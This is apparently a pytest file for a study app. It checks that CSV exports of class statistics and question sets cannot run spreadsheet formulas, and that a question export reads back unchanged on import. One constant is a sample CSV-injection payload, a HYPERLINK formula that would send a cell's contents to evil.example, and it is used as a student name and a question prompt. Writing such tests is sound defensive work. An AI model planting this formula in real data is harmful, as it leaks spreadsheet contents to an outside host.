"""No CSV download can run a formula in the instructor's spreadsheet, and the question CSV
still reads back to exactly the questions it was written from."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from studyapp.models import ClassSet, Enrollment, Question, QuestionSet
from studyapp.teach.service import create_class, create_set, save_question
from tests.conftest import PASSWORD, make_user

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for grade")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _login(client, email):
    client.post("/login", data={"email": email, "password": PASSWORD})


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _no_live_formula(rows):
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell.replace(",", "."))  # only a number may start like a formula


def test_student_name_in_class_statistics_csv_is_text(client, db, instructor):
    qset = create_set(instructor, "+SUM(1,2)", status="published")  # a hostile set title too
    save_question(qset, {"type": "short_answer", "prompt": "Capital of France?", "answer": "Paris"})
    c = create_class(instructor, "Geography")
    db.session.add(ClassSet(class_id=c.id, set_id=qset.id))
    student = make_user("mallory@test.org")
    student.display_name = EVIL
    db.session.add(Enrollment(class_id=c.id, user_id=student.id))
    db.session.commit()
    _login(client, "teacher@test.org")
    rows = _cells(client.get(f"/teach/classes/{c.id}/stats.csv").data)
    _no_live_formula(rows)
    assert rows[0][-1] == "progress: +SUM(1,2)" and rows[1][0] == "'" + EVIL


def test_question_csv_export_import_is_the_identity(client, db, instructor):
    qset = create_set(instructor, "Hostile", status="draft")
    originals = [
        {"type": "short_answer", "prompt": EVIL, "answer": "@admin", "accept": ["-minus", "+plus"],
         "explanation": "=1+1", "topic": "-topic", "tags": ["=tag"]},
        {"type": "numeric", "prompt": "Freezing point of brine in °F?", "answer": "-40",
         "explanation": "'quoted by hand", "topic": "'=already quoted"},
        {"type": "cloze", "prompt": "The ____ of water is 100 °C.", "answer": "boiling point",
         "source": {"quote": "-- as measured: the boiling point of water is 100 °C."}},
    ]
    for d in originals:
        save_question(qset, d)
    db.session.commit()
    _login(client, "teacher@test.org")
    exported = client.get(f"/teach/sets/{qset.id}/export.csv").data
    _no_live_formula(_cells(exported))
    assert ",-40," in exported.decode()  # a number stays a number
    r = client.post("/teach/import", data={"file": (io.BytesIO(exported), "hostile.csv"),
                                           "title": "Back again"},
                    content_type="multipart/form-data", follow_redirects=True)
    assert r.status_code == 200 and b"3 added" in r.data
    again = db.session.scalar(select(QuestionSet).where(QuestionSet.title == "Back again"))

    def fields(set_id):
        return [(q.uid, q.type, q.prompt, q.answer, q.accept, q.explanation, q.topic, q.tags,
                 (q.source or {}).get("quote"))
                for q in db.session.scalars(select(Question).where(Question.set_id == set_id)
                                            .order_by(Question.position))]

    assert fields(again.id) == fields(qset.id)
    assert fields(again.id)[0][2] == EVIL and fields(again.id)[1][3] == "-40"
